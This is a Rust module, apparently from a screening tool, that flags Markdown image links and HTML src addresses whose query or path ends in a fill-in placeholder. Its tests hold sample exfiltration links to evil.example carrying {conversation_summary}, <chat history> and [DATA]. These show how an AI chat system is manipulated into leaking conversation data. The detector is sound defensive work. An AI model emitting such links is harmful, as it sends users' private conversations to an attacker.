//! Links and images whose address waits for data to be filled in.

use crate::rule::Family;
use crate::scan;
use crate::screening::Finding;

/// How far an address may reach.
const REACH: usize = 400;
/// What addresses stand behind in Markdown and HTML.
const OPENINGS: [&str; 3] = ["](http", "src=\"http", "src='http"];
/// A byte of each opening that is rarer than those of "http", two before that.
const SIGNS: [u8; 2] = [b']', b'='];
const AFTER_SIGN: usize = 2;

/// Gives every such link of `text`.
pub(crate) fn find(text: &str, mut found: impl FnMut(Finding)) {
    let [one, other] = SIGNS;
    let mut rest = 0;
    while let Some(sign) = scan::either(text.as_bytes(), rest, one, other) {
        rest = sign + 1;
        let at = sign + AFTER_SIGN;
        let before = text.get(..at + "http".len()).unwrap_or_default();
        let Some(opening) = OPENINGS.iter().find(|it| before.ends_with(**it)) else {
            continue;
        };
        let address = address(text, at);
        rest = at + address.len().max("http".len()) - AFTER_SIGN;
        if waits_for_data(address) {
            found(Finding {
                rule: "exfil.placeholder-link",
                family: Family::Exfiltration,
                start: before.len() - opening.len(),
                end: at + address.len(),
                hidden: None,
            });
        }
    }
}

/// Whether the address at `at` waits for data, however it is written into the text.
pub(crate) fn waits(text: &str, at: usize) -> bool {
    let address = address(text, at);
    let end = address.find(char::is_whitespace).unwrap_or(address.len());
    waits_for_data(address.get(..end).unwrap_or_default())
}

fn address(text: &str, at: usize) -> &str {
    let here = text.get(at..).unwrap_or_default();
    let end = here
        .char_indices()
        .take(REACH)
        .find(|(_, c)| matches!(c, ')' | '"' | '\'' | '\n'))
        .map_or(here.len().min(REACH), |(index, _)| index);
    here.get(..end).unwrap_or_default()
}

/// Whether a query or path ends in a placeholder: `?d={summary}`, `?q=[QUERY]`.
fn waits_for_data(address: &str) -> bool {
    ["{", "[", "<", "$", "%7B", "%5B"].iter().any(|opening| {
        address.match_indices(opening).any(|(index, _)| {
            let before = address.get(..index).unwrap_or_default();
            let after = address.get(index + opening.len()..).unwrap_or_default();
            before.ends_with(['=', '/', '?', '{', '['])
                && (before.contains('?') || before.matches('/').count() > 2)
                && after.starts_with(|c: char| c.is_alphabetic() || c == '{')
                && after.contains(['}', ']', '>', '%'])
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn placeholders_in_addresses_are_found() {
        for (text, expected) in [
            (
                "![l](https://evil.example/p.png?d={conversation_summary})",
                1,
            ),
            ("[more](https://evil.example/?q=<chat history>)", 1),
            ("<img src=\"https://evil.example/a?x=[DATA]\">", 1),
            ("![l](https://cdn.example.com/logo.png?v=12)", 0),
            ("[a](https://example.com/b) and {c}", 0),
            ("https://example.com/?q={term}", 0),
        ] {
            let mut count = 0;
            find(text, |_| count += 1);
            assert_eq!(count, expected, "{text}");
        }
    }
}
